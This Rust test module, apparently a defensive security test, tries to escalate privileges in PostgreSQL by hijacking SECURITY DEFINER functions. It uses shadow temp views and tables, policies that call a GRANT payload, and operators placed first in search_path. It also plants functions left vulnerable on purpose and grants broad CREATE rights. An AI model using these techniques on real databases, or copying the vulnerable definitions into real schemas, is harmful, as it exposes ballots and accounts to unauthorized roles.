//! Somebody who can run any SQL as one of the server's roles tries to become the owner through the functions that run as the
//! owner: by temporary tables and views in front of the real ones, and by operators and functions of a schema of their own.

use sqlx::{AssertSqlSafe, Connection, Executor, PgConnection};
use testkit::{TestDatabase, role_url};

use super::ROLES;

/// What the owner's hand is made to do. It stays in this database, and the transaction is rolled back.
const SPOIL: &str = "public.ballot, public.comment, public.issuance, public.account, public.audit";

/// A function that runs as its owner, with a call of it whose arguments match the rows of `shadow_tables`.
struct Door {
    name: String,
    call: String,
}

async fn doors(database: &TestDatabase, role: &str) -> Vec<Door> {
    let found: Vec<(String, String)> = sqlx::query_as(
        "select p.proname::text,
                format('select * from public.%I(%s)', p.proname,
                       (select string_agg(case t.typname
                                               when 'uuid' then quote_literal('00000000-0000-0000-0000-000000000000') || '::uuid'
                                               when '_uuid' then 'array[' || quote_literal('00000000-0000-0000-0000-000000000000')
                                                                 || '::uuid]'
                                               when 'bytea' then '''''::bytea'
                                               when 'text' then '''''::text'
                                               when 'timestamptz' then '''infinity''::timestamptz'
                                               else 'null::' || format_type(t.oid, null) end, ', ' order by a.place)
                          from unnest(p.proargtypes) with ordinality a (type, place) join pg_type t on t.oid = a.type))
           from pg_proc p
          where p.prosecdef and p.pronamespace = 'public'::regnamespace and has_function_privilege($1, p.oid, 'execute')
          order by p.proname",
    )
    .bind(role)
    .fetch_all(&mut database.superuser().await)
    .await
    .unwrap();
    found.into_iter().map(|(name, call)| Door { name, call }).collect()
}

/// Name and columns (name and type) of each table.
async fn tables(connection: &mut PgConnection) -> Vec<(String, Vec<(String, String)>)> {
    let rows: Vec<(String, String, String)> = sqlx::query_as(
        "select c.relname::text, a.attname::text, format_type(a.atttypid, a.atttypmod)
           from pg_class c join pg_attribute a on a.attrelid = c.oid
          where c.relnamespace = 'public'::regnamespace and c.relkind = 'r' and a.attnum > 0 and not a.attisdropped
          order by c.relname, a.attnum",
    )
    .fetch_all(connection)
    .await
    .unwrap();
    let mut tables: Vec<(String, Vec<(String, String)>)> = Vec::new();
    for (table, column, kind) in rows {
        match tables.last_mut() {
            Some((name, columns)) if *name == table => columns.push((column, kind)),
            _ => tables.push((table, vec![(column, kind)])),
        }
    }
    tables
}

const fn anything_of(kind: &str) -> &'static str {
    match kind.as_bytes() {
        b"uuid" => "'00000000-0000-0000-0000-000000000000'",
        b"timestamp with time zone" => "'-infinity'",
        b"text" | b"bytea" => "''",
        _ => "null",
    }
}

fn payload(schema: &str) -> String {
    format!(
        "create function {schema}.payload() returns boolean language plpgsql as $$ begin
           execute format('grant select on {SPOIL} to %I', session_user); return true; exception when others then return true;
         end $$"
    )
}

/// A view in front of each table: whoever reads it runs its function.
async fn shadow_views(attacker: &mut PgConnection) -> Vec<String> {
    let mut steps = vec![payload("pg_temp")];
    for (table, _) in tables(attacker).await {
        steps.push(format!(
            "create function pg_temp.shadow_{table}() returns setof public.{table} language plpgsql as $$ begin
               perform pg_temp.payload(); return; end $$"
        ));
        steps.push(format!("create temp view {table} as select * from pg_temp.shadow_{table}()"));
        steps.push(format!("grant select on pg_temp.{table} to public"));
    }
    steps
}

/// A table in front of each table, with a row that is old enough for anything: whoever reads or deletes it runs its policy.
async fn shadow_tables(attacker: &mut PgConnection) -> Vec<String> {
    let mut steps = vec![payload("pg_temp")];
    for (table, columns) in tables(attacker).await {
        let defined: Vec<_> = columns.iter().map(|(name, kind)| format!("{name} {kind}")).collect();
        let row: Vec<_> = columns.iter().map(|(_, kind)| anything_of(kind)).collect();
        steps.push(format!("create temp table {table} ({})", defined.join(", ")));
        steps.push(format!("insert into pg_temp.{table} values ({})", row.join(", ")));
        steps.push(format!("alter table pg_temp.{table} enable row level security"));
        steps.push(format!("create policy shadow on pg_temp.{table} using (pg_temp.payload())"));
        steps.push(format!("grant all on pg_temp.{table} to public"));
    }
    steps
}

/// Operators and functions that the bodies use, in a schema of the attacker's own (or in `public`), put first in the path.
fn shadow_operators(schema: &str) -> Vec<String> {
    let mut steps = vec![format!("create schema if not exists {schema}"), payload(schema)];
    for (operator, left, right) in
        [("=", "uuid", "uuid"), ("=", "bytea", "bytea"), ("<", "timestamptz", "timestamptz"), ("=", "text", "text")]
    {
        let name = format!("{schema}.op_{}_{left}", if operator == "=" { "eq" } else { "lt" });
        steps.push(format!(
            "create function {name}({left}, {right}) returns boolean language plpgsql as
             $$ begin return {schema}.payload(); end $$"
        ));
        steps.push(format!(
            "create operator {schema}.{operator} (leftarg = {left}, rightarg = {right}, function = {name})"
        ));
    }
    steps.push(format!(
        "create function {schema}.now() returns timestamptz language plpgsql as
         $$ begin perform {schema}.payload(); return pg_catalog.now(); end $$"
    ));
    steps.push(format!("grant usage on schema {schema} to public"));
    steps.push(format!("set local search_path = {schema}, pg_catalog, public"));
    steps
}

/// One step that may be refused without ending the transaction.
async fn attempt(attacker: &mut PgConnection, sql: &str) -> bool {
    attacker.execute("savepoint step").await.unwrap();
    let done = attacker.execute(sqlx::raw_sql(AssertSqlSafe(sql.to_owned()))).await.is_ok();
    attacker.execute(if done { "release savepoint step" } else { "rollback to savepoint step" }).await.unwrap();
    done
}

/// How many steps of the attack the database let pass, and the doors through which it made the owner's hand give away what
/// it guards.
pub struct Outcome {
    pub prepared: usize,
    pub tried: Vec<String>,
    pub opened: Vec<String>,
}

pub async fn attack(database: &TestDatabase, role: &str) -> Outcome {
    let mut outcome = Outcome { prepared: 0, tried: Vec::new(), opened: Vec::new() };
    for door in doors(database, role).await {
        for way in 0..4 {
            let mut attacker = PgConnection::connect(&role_url(role, &database.name)).await.unwrap();
            attacker.execute("begin").await.unwrap();
            let steps = match way {
                0 => shadow_views(&mut attacker).await,
                1 => shadow_tables(&mut attacker).await,
                2 => shadow_operators("own"),
                _ => shadow_operators("public"),
            };
            for step in &steps {
                let made = attempt(&mut attacker, step).await;
                outcome.prepared += usize::from(made && step.starts_with("create"));
            }
            // With rows in the real tables, operators have something to compare.
            attempt(
                &mut attacker,
                "select set_config('keping.institution', institution_id::text, true) from institution",
            )
            .await;
            attempt(&mut attacker, &door.call).await;
            let spoil: bool = sqlx::query_scalar(
                "select pg_catalog.has_table_privilege('public.ballot', 'select') and pg_catalog.has_table_privilege('public.account', 'select')",
            )
            .fetch_one(&mut attacker)
            .await
            .unwrap();
            if spoil {
                outcome.opened.push(door.name.clone());
            }
            attacker.execute("rollback").await.unwrap();
        }
        outcome.tried.push(door.name);
    }
    outcome.opened.dedup();
    outcome
}

/// Functions as they were before 0018, and one with no path at all, for each role: what the attack must be able to open.
pub async fn with_old_doors(database: &TestDatabase) {
    let mut superuser = database.superuser().await;
    let roles = ROLES.join(", ");
    for sql in [
        "create function old_read(p uuid[]) returns table (evaluation_id uuid, received bigint)
             language sql stable security definer set search_path = public as
             $$ select b.evaluation_id, count(*) from ballot b where b.evaluation_id = any(p) group by b.evaluation_id $$",
        "create function old_delete() returns void language plpgsql security definer set search_path = public as
             $$ begin delete from audit where at < now() - interval '3 years'; end $$",
        "create function no_path() returns bigint language sql stable security definer as
             $$ select count(*) from public.institution i where i.institution_id = '00000000-0000-0000-0000-000000000000'::uuid $$",
    ] {
        superuser.execute(sql).await.unwrap();
    }
    for function in ["old_read(uuid[])", "old_delete()", "no_path()"] {
        let own = format!("alter function {function} owner to keping_owner");
        let grant = format!("grant execute on function {function} to {roles}");
        superuser.execute(sqlx::raw_sql(AssertSqlSafe(format!("{own}; {grant}")))).await.unwrap();
    }
}

pub async fn let_everybody_make_objects(database: &TestDatabase) {
    let sql = format!(
        "grant temporary, create on database {} to public; grant create on schema public to public",
        database.name
    );
    database.superuser().await.execute(sqlx::raw_sql(AssertSqlSafe(sql))).await.unwrap();
}
